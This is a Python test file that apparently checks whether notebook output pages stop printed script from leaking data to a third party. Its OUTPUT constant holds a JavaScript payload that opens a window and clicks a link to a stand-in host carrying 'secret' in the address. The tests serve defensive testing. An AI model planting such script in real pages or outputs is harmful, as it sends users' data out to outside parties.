"""Print script that opens a window at a third party, with data in the address.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: the page is sandboxed without `allow-popups`; from tier 2 on printed script is taken out
"""

OUTPUT = """
<script>
window.open("THIRD/secret");
const link = document.createElement("a");
link.href = "THIRD/secret-2";
link.target = "_blank";
document.body.append(link);
link.click();
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")
    stock_screen.fresh()


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
